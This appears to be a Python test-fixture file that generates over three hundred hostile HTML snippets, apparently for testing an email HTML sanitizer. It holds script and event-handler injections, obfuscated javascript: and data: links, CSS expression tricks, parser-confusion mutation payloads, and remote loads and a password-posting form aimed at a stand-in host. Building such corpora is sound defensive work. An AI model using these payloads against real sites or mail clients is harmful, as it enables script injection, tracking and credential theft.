"""Hostile HTML as mails bring it: more than three hundred ways to run something or to phone home.

Whatever would run calls alert(); whatever would fetch asks a host below evil.example.
"""

JS = "alert(1)"
HOST = "https://x.evil.example"

TAGS = [
    "<script>{js}</script>", "<script src={host}/a.js></script>", "<SCRIPT>{js}</SCRIPT>", "<script/x>{js}</script>",
    "<script\n>{js}</script >", "<<script>{js}//<</script>", "<script>{js}", "<script src=//x.evil.example/a.js>",
    "<svg><script>{js}</script></svg>", "<svg><script href=data:,{js} />", "<svg><script xlink:href={host}/a.js></script></svg>",
    "<math><script>{js}</script></math>", "<noscript><script>{js}</script></noscript>", "<template><script>{js}</script></template>",
    "<iframe src=javascript:{js}></iframe>", "<iframe srcdoc='<script>{js}</script>'></iframe>", "<iframe src={host}/></iframe>",
    "<frameset><frame src=javascript:{js}></frameset>", "<frameset onload={js}>", "<object data=javascript:{js}></object>",
    "<object data={host}/x.swf></object>", "<object type=text/html data='data:text/html,<script>{js}</script>'></object>",
    "<embed src=javascript:{js}>", "<embed src={host}/x.swf>", "<applet code=x codebase={host}></applet>",
    "<base href={host}/>", "<base href=javascript:{js}//>", "<link rel=stylesheet href={host}/a.css>", "<link rel=import href={host}/a.html>",
    "<link rel=preload as=image href={host}/a.png>", "<link rel=prefetch href={host}/a>", "<link rel=dns-prefetch href={host}>",
    "<link rel=icon href={host}/a.ico>", "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<meta http-equiv=refresh content='0;url={host}/'>", "<meta http-equiv=refresh content='0;data:text/html,<script>{js}</script>'>",
    "<meta http-equiv=Set-Cookie content='a=b'>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<form action=javascript:{js}><button>x</button></form>", "<form action={host}/><input name=password type=password></form>",
    "<form id=f></form><button form=f formaction=javascript:{js}>x</button>", "<isindex type=image src=1 onerror={js}>",
    "<input type=image src={host}/a.png>", "<button formaction=javascript:{js}>x</button>", "<input autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}></textarea>", "<select autofocus onfocus={js}></select>", "<keygen autofocus onfocus={js}>",
    "<video src={host}/a.mp4></video>", "<video poster={host}/a.png></video>", "<video><source onerror={js}></video>",
    "<video><source src={host}/a.mp4></video>", "<video><track src={host}/a.vtt default></video>", "<audio src={host}/a.mp3 onerror={js}></audio>",
    "<picture><source srcset={host}/a.png><img></picture>", "<img srcset='{host}/a.png 1x, {host}/b.png 2x'>", "<img lowsrc={host}/a.png>",
    "<img dynsrc={host}/a.png>", "<img usemap=#m src=x><map name=m><area href=javascript:{js} shape=default></map>",
    "<image src=x onerror={js}>", "<image href={host}/a.png>", "<input type=hidden accesskey=x onclick={js}>", "<marquee onstart={js}>x</marquee>",
    "<bgsound src={host}/a.wav>", "<layer src={host}/a.js></layer>", "<xml src={host}/a.xml id=x></xml>", "<xss style='behavior:url({host}/a.htc)'>",
    "<details open ontoggle={js}>x</details>", "<dialog open onclose={js}>x</dialog>", "<portal src={host}/></portal>", "<fencedframe src={host}>",
    "<body onload={js}>", "<body background={host}/a.png>", "<html onclick={js}>", "<table background={host}/a.png><tr><td background={host}/b.png>x",
    "<blockquote cite={host}/>x</blockquote>", "<q cite=javascript:{js}>x</q>", "<del cite=javascript:{js}>x</del>", "<a ping={host}/ href=https://ok.example/>x</a>",
    "<a href=https://ok.example/ target=_self onclick={js}>x</a>", "<custom-element onclick={js}>x</custom-element>", "<slot onslotchange={js}>",
]  # fmt: skip
SVG = [
    "<svg onload={js}>", "<svg/onload={js}>", "<svg><animate onbegin={js} attributeName=x dur=1s>", "<svg><set onbegin={js} attributeName=x>",
    "<svg><a xlink:href=javascript:{js}><text y=20>x</text></a></svg>", "<svg><a href=javascript:{js}><rect width=99 height=99 /></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:{js} /><text y=20>x</text></a></svg>", "<svg><image href={host}/a.png /></svg>",
    "<svg><image xlink:href={host}/a.svg /></svg>", "<svg><use href={host}/a.svg#x /></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload={js}/>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:{js}></iframe></foreignObject></svg>", "<svg><style>@import '{host}/a.css';</style></svg>",
    "<svg><filter><feImage href={host}/a.png /></filter></svg>", "<svg><handler type=text/javascript>{js}</handler></svg>",
    "<svg><discard onbegin={js}>", "<svg><title><img src=x onerror={js}></title></svg>", "<svg><desc><script>{js}</script></desc></svg>",
    "<math href=javascript:{js}>x</math>", "<math><mi xlink:href=javascript:{js}>x</mi></math>", "<math><maction actiontype=statusline xlink:href=javascript:{js}>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>{js}</script></annotation-xml></math>", "<math><mtext><img src=x onerror={js}></mtext></math>",
    "<math><semantics><annotation-xml><svg onload={js}>", "<svg><tspan onload={js}>", "<svg><script>//&#10;{js}</script>",
]  # fmt: skip
CSS = [
    "<style>@import url({host}/a.css);</style>", "<style>@import '{host}/a.css';</style>", "<style>@font-face{{font-family:x;src:url({host}/a)}}*{{font-family:x}}</style>",
    "<style>body{{background:url({host}/a.png)}}</style>", "<style>*{{-moz-binding:url({host}/x.xml)}}</style>", "<style>a[href^=h]{{background:url({host}/a)}}</style>",
    "<style>li{{list-style-image:url({host}/a)}}</style>", "<style>div:after{{content:url({host}/a)}}</style>", "<style><img src='</style><img src=x onerror={js}>'>",
    "<style></style><script>{js}</script>", "<div style='background:url({host}/a.png)'>x</div>", "<div style=\"background-image:url('javascript:{js}')\">x</div>",
    "<div style='width:expression({js})'>x</div>", "<div style='width:e\\xpression({js})'>x</div>", "<div style='width:exp/**/ression({js})'>x</div>",
    "<div style='behavior:url({host}/a.htc)'>x</div>", "<div style='-o-link:\"javascript:{js}\";-o-link-source:current'>x</div>",
    "<div style='list-style:url({host}/a)'>x</div>", "<div style='cursor:url({host}/a),auto'>x</div>", "<div style='mask:url({host}/a)'>x</div>",
    "<div style='border-image:url({host}/a)'>x</div>", "<div style='filter:url({host}/a#x)'>x</div>", "<div style='content:image-set(\"{host}/a\" 1x)'>x</div>",
    "<div style='background:\\75rl({host}/a)'>x</div>", "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<p style=\"--x:url({host}/a);background:var(--x)\">x</p>", "<font style='src:url({host}/a)'>x</font>", "<link rel=stylesheet href='data:text/css,@import url({host}/a)'>",
    "<style media=all>@import/**/url({host}/a);</style>", "<style>@\\69mport '{host}/a'</style>", "<STYLE>li {{list-style-image: url(\"javascript:{js}\");}}</STYLE>",
]  # fmt: skip
MUTATED = [
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">", "<svg></p><style><a id=\"</style><img src=x onerror={js}>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={js}&gt;\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={js} src>\">",
    "<svg><style><img src='</style><img src=x onerror={js}>'></svg>", "<table><td><svg><desc><td></desc><title><img src=x onerror={js}></title>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>", "<xmp><p title=\"</xmp><img src=x onerror={js}>\"></xmp>", "<plaintext><img src=x onerror={js}>",
    "<noembed><img title=\"</noembed><img src=x onerror={js}>\"></noembed>", "<noframes><img title=\"</noframes><img src=x onerror={js}>\"></noframes>",
    "<textarea><img title=\"</textarea><img src=x onerror={js}>\"></textarea>", "<title><img title=\"</title><img src=x onerror={js}>\"></title>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={js}>\">", "<!--><img src=x onerror={js}>-->",
    "<!-- --!><img src=x onerror={js}> -->", "<![CDATA[><img src=x onerror={js}>]]>", "<svg><![CDATA[><img src=x onerror={js}>]]></svg>",
    "<?xml version=1.0?><img src=x onerror={js}>", "<!DOCTYPE x [<!ENTITY y '<script>{js}</script>'>]>&y;", "<a<b><img src=x onerror={js}>",
    "<img src=\"x` `<script>{js}</script>\"` `>", "<img src='x' title='\"><script>{js}</script>'>", "</p title=\"<!--\"><img src=x onerror={js}>-->",
    "<p><svg><p><style><!--</style><img src=x onerror={js}>", "<svg><p><style><a title=\"</style><img src onerror={js}>\">",
    "<img \x00src=x onerror={js}>", "<scr\x00ipt>{js}</scr\x00ipt>", "<sc<script>ript>{js}</script>", "<scr<!-- -->ipt>{js}</script>",
    "<div id='<!--'><img src=x onerror={js}></div>-->", "<iframe><img title=\"</iframe><img src=x onerror={js}>\"></iframe>",
    "%3Cscript%3E{js}%3C/script%3E", "\xbcscript\xbe{js}\xbc/script\xbe", "+ADw-script+AD4-{js}+ADw-/script+AD4-", "&lt;script&gt;{js}&lt;/script&gt;",
]  # fmt: skip
EVENTS = [
    "onabort", "onanimationend", "onauxclick", "onbeforecopy", "onbeforeinput", "onbeforetoggle", "onblur", "oncanplay", "onchange", "onclick",
    "oncontentvisibilityautostatechange", "oncopy", "oncut", "ondblclick", "ondrag", "onend", "onerror", "onfocus", "onfocusin", "onformdata", "onhashchange",
    "oninput", "onkeydown", "onload", "onloadstart", "onmessage", "onmousemove", "onmouseover", "onpageshow", "onpaste", "onpointerenter", "onpopstate",
    "onreadystatechange", "onreset", "onresize", "onscroll", "onscrollend", "onsearch", "onsubmit", "ontoggle", "ontouchstart", "ontransitionend",
    "onunhandledrejection", "onunload", "onwebkitanimationstart", "onwheel",
]  # fmt: skip
LINKS = [
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "java\nscript:{js}", "java\rscript:{js}", " javascript:{js}", "\x01javascript:{js}",
    "\x00javascript:{js}", "&#106;avascript:{js}", "&#x6A;avascript:{js}", "&#0000106&#0000097&#0000118ascript:{js}", "java&Tab;script:{js}",
    "java&NewLine;script:{js}", "javascript&colon;{js}", "javascript&#58;{js}", "&#14; javascript:{js}", "\u2028javascript:{js}", "\u00a0javascript:{js}",
    "javascript://%0a{js}", "javascript:/*--></title></style>*/{js}", "view-source:javascript:{js}", "feed:javascript:{js}", "jar:javascript:{js}",
    "vbscript:msgbox(1)", "livescript:{js}", "mocha:{js}", "data:text/html,<script>{js}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={js}>", "DATA:text/html,x", "blob:https://x/1", "file:///etc/passwd", "filesystem:https://x/1", "about:blank",
    "ms-its:{host}/a.chm", "cid:x\"onerror={js}", "smb://x.evil.example/a", "\\\\x.evil.example\\a", "intent://x#Intent;end", "search-ms:query=x",
]  # fmt: skip
PLACES = ['<a href="{link}">x</a>', '<img src="{link}">', '<area href="{link}">']


def _filled(text):
    return text.replace("{{", "{").replace("}}", "}").replace("{js}", JS).replace("{host}", HOST)


def cases():
    found = [_filled(one) for one in (*TAGS, *SVG, *CSS, *MUTATED)]
    found += [f"<img src=x {event}={JS}>" for event in EVENTS] + [
        f"<p {event}='{JS}' tabindex=0>x</p>" for event in EVENTS
    ]
    found += [place.replace("{link}", _filled(link)) for link in LINKS for place in PLACES]
    return found


CASES = cases()
